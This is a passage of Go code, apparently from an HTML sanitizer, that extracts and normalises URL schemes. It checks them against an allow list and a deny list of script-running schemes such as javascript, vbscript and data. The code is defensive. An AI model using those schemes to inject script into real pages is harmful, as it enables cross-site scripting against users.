// relative.
func schemeOf(address string) string {
	address = strings.TrimFunc(address, func(r rune) bool { return r <= ' ' })
	address = strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(address)
	scheme, _, ok := strings.Cut(strings.ToLower(address), ":")
	if !ok || !schemeName.MatchString(scheme) {
		return ""
	}
	return scheme
}

// unknown refuses the schemes that no attack should need.
func unknown(scheme string) bool {
	return !slices.Contains([]string{"", "http", "https", "mailto", "tel"}, scheme)
}

// running refuses the schemes that code or documents hide behind. Others, such as
// irc, open another program.
func running(scheme string) bool {
	return slices.Contains([]string{"javascript", "vbscript", "livescript", "data", "blob", "file",
		"filesystem", "view-source"}, scheme)
}

func valueOf(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}
